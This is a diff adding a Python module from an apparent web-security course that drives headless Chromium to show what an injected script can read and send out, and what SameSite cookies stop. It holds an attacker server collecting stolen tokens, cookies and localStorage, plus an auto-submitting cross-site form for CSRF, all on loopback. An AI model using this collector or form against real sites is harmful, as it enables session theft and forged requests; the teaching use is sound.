@@ -1,0 +1,355 @@
+"""Lesson 08's browser scenario in a real headless Chromium: what an injected script reaches, what SameSite stops.
+
+    with Attacker() as attacker:                            # the attacker's own server, another site
+        results = run_scenario(lab, attacker)               # Chromium, the lab page, three login modes
+    print_scenario(results)
+
+The lab page is opened as ``http://localhost:<lab port>/app/``; the attacker's server answers on 127.0.0.1,
+which to a browser is another *site* (ports never count for sites), and on ``localhost:<other port>``, which
+is the same site but another *origin*. The attacker serves the injected script (``coursekit/web/xss.js``),
+collects what it sends, and serves a page with a form that posts to the lab.
+
+Chromium comes from the system's packages (Debian: ``apt-get install chromium chromium-driver``) and is
+driven by Playwright, pointed at that executable: nothing is downloaded, ``playwright install`` is never
+needed. Playwright gives every launch a fresh, temporary profile (user data directory).
+"""
+
+from __future__ import annotations
+
+import html
+import json
+import os
+import re
+import shutil
+import threading
+from concurrent.futures import ThreadPoolExecutor
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from urllib.parse import parse_qs, quote, urlsplit
+
+__all__ = ["find_browser", "Attacker", "start_attacker", "page_link", "run_scenario", "print_scenario",
+           "run_tls_login", "print_tls_login", "INSTALL_HINT", "CHROMIUM_FLAGS"]
+
+INSTALL_HINT = ("install Chromium from your system's packages (Debian/Ubuntu: sudo apt-get install chromium "
+                "chromium-driver) and Playwright from PyPI (pip install playwright); never run `playwright "
+                "install`, the system's Chromium is used")
+# Headless, no sandbox (it needs user namespaces that root and containers often lack), and quiet: no
+# first-run page, no background downloads, no updates, no sync. Only loopback traffic is generated.
+CHROMIUM_FLAGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
+                  "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+# chromium-browser last: on Ubuntu it is often a shim for a snap that cannot run here.
+_CANDIDATES = ("chromium", "google-chrome", "google-chrome-stable", "chromium-browser")
+_WEB = Path(__file__).resolve().parent / "web"
+
+
+def find_browser() -> tuple[str | None, str]:
+    """The Chromium executable to use and "", or None and why none can be used (with how to install one)."""
+    try:
+        import playwright.sync_api  # noqa: F401
+    except ImportError:
+        return None, f"Playwright is not installed: {INSTALL_HINT}"
+    wanted = os.environ.get("COURSE_CHROMIUM")
+    for name in ([wanted] if wanted else _CANDIDATES):
+        path = shutil.which(name)
+        if path:
+            return path, ""
+    return None, f"no Chromium found on this machine: {INSTALL_HINT}"
+
+
+# --- the attacker's server --------------------------------------------------------------------------
+
+class Attacker:
+    """The attacker's web server on 127.0.0.1: the injected script, a collector, and a cross-site form page."""
+
+    MAX_KEPT = 100  # collected messages kept (the collector is bounded)
+
+    def __init__(self) -> None:
+        self.collected: list[dict] = []
+        self._lock = threading.Lock()
+        attacker = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                parts = urlsplit(self.path)
+                if parts.path == "/xss.js":
+                    self._answer(200, "text/javascript", (_WEB / "xss.js").read_bytes())
+                elif parts.path == "/cross-site":
+                    query = {k: v[0] for k, v in parse_qs(parts.query).items()}
+                    self._answer(200, "text/html; charset=utf-8", _form_page(query).encode())
+                else:
+                    self._answer(404, "text/plain", b"not here")
+
+            def do_POST(self) -> None:
+                if urlsplit(self.path).path != "/collect":
+                    self._answer(404, "text/plain", b"not here")
+                    return
+                size = min(int(self.headers.get("Content-Length") or 0), 65536)
+                body = self.rfile.read(size)
+                try:
+                    message = json.loads(body)
+                except ValueError:
+                    message = {"unreadable": body.decode(errors="replace")}
+                with attacker._lock:
+                    if len(attacker.collected) < attacker.MAX_KEPT:
+                        attacker.collected.append(message)
+                self._answer(204, "text/plain", b"")
+
+            def _answer(self, status: int, kind: str, body: bytes) -> None:
+                self.send_response(status)
+                self.send_header("Content-Type", kind)
+                self.send_header("Content-Length", str(len(body)))
+                self.send_header("Cache-Control", "no-store")
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args) -> None:  # keep notebook outputs clean
+                pass
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self._server.daemon_threads = True
+        self.port = self._server.server_address[1]
+        threading.Thread(target=self._server.serve_forever, daemon=True, name="attacker").start()
+
+    def url(self, host: str = "127.0.0.1") -> str:
+        return f"http://{host}:{self.port}"
+
+    def take(self) -> list[dict]:
+        """What the collector received since the last take."""
+        with self._lock:
+            taken, self.collected = self.collected, []
+        return taken
+
+    def close(self) -> None:
+        self._server.shutdown()
+        self._server.server_close()
+
+    def __enter__(self) -> "Attacker":
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self.close()
+
+
+_attacker: Attacker | None = None
+
+
+def start_attacker() -> Attacker:
+    """The notebook's attacker server: started once, and started afresh when a notebook runs again."""
+    global _attacker
+    if _attacker is not None:
+        _attacker.close()
+    _attacker = Attacker()
+    return _attacker
+
+
+def page_link(lab, attacker: Attacker) -> str:
+    """The lab page's address, as the scenario opens it: on localhost, with the attacker's script to inject."""
+    return f"http://localhost:{lab.port}/app/?inject=" + quote(attacker.url() + "/xss.js", safe=":/")
+
+
+def _form_page(query: dict) -> str:
+    """A page that submits a form to another site as soon as it loads (the classic CSRF shape)."""
+    action = html.escape(query.get("action", ""), quote=True)
+    method = "get" if query.get("method") == "get" else "post"
+    return (f'<!doctype html><title>You won a prize</title><form id="f" method="{method}" action="{action}">'
+            '<input type="hidden" name="prize" value="yes"></form>'
+            '<script>document.getElementById("f").submit()</script>')
+
+
+# --- the scenario -----------------------------------------------------------------------------------
+
+MODES = {"cookie": "#login-cookie", "localStorage": "#login-storage", "memory": "#login-memory"}
+
+
+def run_scenario(lab, attacker: Attacker, executable: str | None = None, timeout: float = 15.0) -> dict:
+    """Run every part of the scenario in a fresh headless Chromium; return what happened, part by part.
+
+    Playwright's synchronous API refuses to run where an event loop is running (a Jupyter kernel), so the
+    browser is driven from a thread of its own.
+    """
+    if executable is None:
+        executable, reason = find_browser()
+        if executable is None:
+            raise RuntimeError(reason)
+    with ThreadPoolExecutor(max_workers=1) as pool:
+        return pool.submit(_drive, lab, attacker, executable, timeout).result()
+
+
+def _drive(lab, attacker: Attacker, executable: str, timeout: float) -> dict:
+    from playwright.sync_api import sync_playwright
+
+    lab_origin = f"http://localhost:{lab.port}"
+    page_url = page_link(lab, attacker)
+    results: dict = {}
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=executable, args=CHROMIUM_FLAGS, timeout=timeout * 1000)
+        try:
+            for mode, button in MODES.items():
+                context = browser.new_context()
+                context.set_default_timeout(timeout * 1000)
+                page = context.new_page()
+                page.goto(page_url)
+                attacker.take()
+                login = _click(page, button)
+                token = (login["body"] or {}).get("access_token")
+                outcome = {"logged in": login["status"] == 200, "page's API call": _click(page, "#call")["status"],
+                           "token the page got": token}
+                page.click("#inject")
+                page.wait_for_function("document.body.dataset.injected === 'sent'")
+                (found,) = [m for m in attacker.take() if "page" in m]
+                outcome["script read document.cookie"] = found["document.cookie"]
+                outcome["script read localStorage"] = found["localStorage"]
+                outcome["script's own GET /session/me"] = found["GET /session/me from the script"]
+                outcome["token sent at once"] = bool(token) and token in json.dumps(found)
+                _click(page, "#call")  # the page's own next call, watched by the injected script
+                later = attacker.take()
+                outcome["token sent on the page's next call"] = bool(token) and token in json.dumps(later)
+                outcome["cookies as stored"] = [
+                    {k: c[k] for k in ("name", "httpOnly", "secure", "sameSite", "path")}
+                    for c in context.cookies()]
+                if mode == "cookie":
+                    results["cross-site"] = _cross_site(page, lab, lab_origin, attacker)
+                if mode == "localStorage":
+                    results["bearer"] = _bearer_form(context, lab_origin, attacker)
+                results[mode] = outcome
+                context.close()
+        finally:
+            browser.close()
+    return results
+
+
+def _click(page, selector: str) -> dict:
+    """Click a button of the lab page and return the answer it puts on screen."""
+    before = page.evaluate("document.body.dataset.ready || '0'")
+    page.click(selector)
+    page.wait_for_function("b => (document.body.dataset.ready || '0') !== b", arg=before)
+    return json.loads(page.inner_text("#result"))
+
+
+def _submit_from(context, attacker_origin: str, action: str, method: str = "post") -> dict:
+    """Open the attacker's form page on ``attacker_origin``; return the status and answer of the lab's reply."""
+    page = context.new_page()
+    url = f"{attacker_origin}/cross-site?method={method}&action=" + quote(action, safe="")
+    with page.expect_response(lambda r: r.url.split("?")[0] == action) as info:
+        page.goto(url)
+    response = info.value
+    answer = {"status": response.status, "body": response.json()}
+    page.close()
+    return answer
+
+
+def _cross_site(page, lab, lab_origin: str, attacker: Attacker) -> dict:
+    """A form posted to /session/logout from another site, then from the same site on another port.
+
+    The server's answer says whether the cookie came with the request (``logged_out`` is true only when
+    it did and the session was deleted); the store says whether the session survived.
+    """
+    sessions = len(lab.table("sessions"))
+    other_site = _submit_from(page.context, attacker.url("127.0.0.1"), lab_origin + "/session/logout")
+    survived = len(lab.table("sessions")) == sessions
+    # The logout answer tells the browser to drop its cookie either way: log in again before the next form.
+    _click(page, "#login-cookie")
+    same_site = _submit_from(page.context, attacker.url("localhost"), lab_origin + "/session/logout")
+    return {"from another site (127.0.0.1)": other_site["body"], "session survived it": survived,
+            "from the same site, another origin (localhost, other port)": same_site["body"]}
+
+
+def _bearer_form(context, lab_origin: str, attacker: Attacker) -> dict:
+    """A form sent to the bearer-protected /api/me from another site, while the token sits in localStorage."""
+    answer = _submit_from(context, attacker.url("127.0.0.1"), lab_origin + "/api/me", method="get")
+    return {"status": answer["status"], "error": answer["body"].get("error"),
+            "error_description": answer["body"].get("error_description")}
+
+
+def print_scenario(results: dict) -> None:
+    """Print the scenario's results as the lesson shows them: one line per login mode, then the forms."""
+    yes_no = {True: "yes", False: "no"}
+    print(f"{'where the login lives':<22}{'script reads it':<17}{'sent away at once':<19}"
+          f"{'sent on next call':<19}{'script acts as user'}")
+    for mode in MODES:
+        r = results[mode]
+        if mode == "cookie":
+            readable = "yes" if r["script read document.cookie"] else "no (HttpOnly)"
+        else:
+            readable = yes_no["access_token" in r["script read localStorage"]]
+        acts = {200: "yes (200)", 401: "no (401)"}.get(r["script's own GET /session/me"],
+                                                     str(r["script's own GET /session/me"]))
+        if mode != "cookie":
+            acts = "yes, with the token" if (readable == "yes" or r["token sent on the page's next call"]) else acts
+        later = yes_no[r["token sent on the page's next call"]]
+        print(f"{mode:<22}{readable:<17}{yes_no[r['token sent at once']]:<19}{later:<19}{acts}")
+    print()
+    for c in results["cookie"]["cookies as stored"]:
+        print(f"cookie as the browser stored it: {c['name']}  HttpOnly={c['httpOnly']}  Secure={c['secure']}  "
+              f"SameSite={c['sameSite']}  Path={c['path']}")
+    cs = results["cross-site"]
+    print("form POST /session/logout from another site:       ", cs["from another site (127.0.0.1)"],
+          "(session survived:", yes_no[cs["session survived it"]] + ")")
+    print("form POST /session/logout from the same site (port):",
+          cs["from the same site, another origin (localhost, other port)"])
+    b = results["bearer"]
+    print(f"form GET /api/me from another site (token in localStorage): {b['status']} {b['error']}")
+
+
+# --- the page over HTTPS ------------------------------------------------------------------------------
+
+def spki_pin(cert_path: str) -> str:
+    """base64 SHA-256 of a certificate's public key (SubjectPublicKeyInfo), as Chromium's pin flag wants it."""
+    import base64
+    import hashlib
+
+    from cryptography import x509
+    from cryptography.hazmat.primitives import serialization
+
+    key = x509.load_pem_x509_certificate(Path(cert_path).read_bytes()).public_key()
+    der = key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
+    return base64.b64encode(hashlib.sha256(der).digest()).decode()
+
+
+def run_tls_login(lab, cert_path: str | None, executable: str | None = None, timeout: float = 15.0) -> dict:
+    """Open the lab page over HTTPS, log in with the session cookie, and return what the browser stored.
+
+    A fresh browser profile knows only the system's CAs, not the course CA. ``cert_path`` makes Chromium accept
+    exactly that server certificate's public key (``--ignore-certificate-errors-spki-list``: any other
+    certificate error still fails); with ``None`` the browser gets no such help and must refuse the page.
+    """
+    if executable is None:
+        executable, reason = find_browser()
+        if executable is None:
+            raise RuntimeError(reason)
+    args = CHROMIUM_FLAGS + ([f"--ignore-certificate-errors-spki-list={spki_pin(cert_path)}"] if cert_path else [])
+    with ThreadPoolExecutor(max_workers=1) as pool:
+        return pool.submit(_drive_tls, lab.port, args, executable, timeout).result()
+
+
+def _drive_tls(port: int, args: list[str], executable: str, timeout: float) -> dict:
+    from playwright.sync_api import Error, sync_playwright
+
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=executable, args=args, timeout=timeout * 1000)
+        try:
+            context = browser.new_context()
+            context.set_default_timeout(timeout * 1000)
+            page = context.new_page()
+            try:
+                response = page.goto(f"https://localhost:{port}/app/")
+            except Error as error:
+                refused = re.search(r"net::(ERR_[A-Z_]+)", str(error))
+                return {"loaded": False, "error": refused.group(1) if refused else str(error)}
+            login = _click(page, "#login-cookie")
+            return {"loaded": True, "login": login["status"],
+                    "hsts": response.headers.get("strict-transport-security"),
+                    "document.cookie": page.evaluate("document.cookie"),
+                    "cookies as stored": [{k: c[k] for k in ("name", "httpOnly", "secure", "sameSite", "path")}
+                                          for c in context.cookies()]}
+        finally:
+            browser.close()
+
+
+def print_tls_login(trusted: dict, untrusted: dict) -> None:
+    """Print the HTTPS run: the refused page without trust, the stored cookie with it."""
+    print("over HTTPS, a browser that does not know the lab's certificate:", untrusted.get("error"))
+    for c in trusted["cookies as stored"]:
+        print(f"over HTTPS, the cookie as the browser stored it: {c['name']}  HttpOnly={c['httpOnly']}  "
+              f"Secure={c['secure']}  SameSite={c['sameSite']}  Path={c['path']}")
+    print("over HTTPS, document.cookie as the page reads it:", repr(trusted["document.cookie"]))
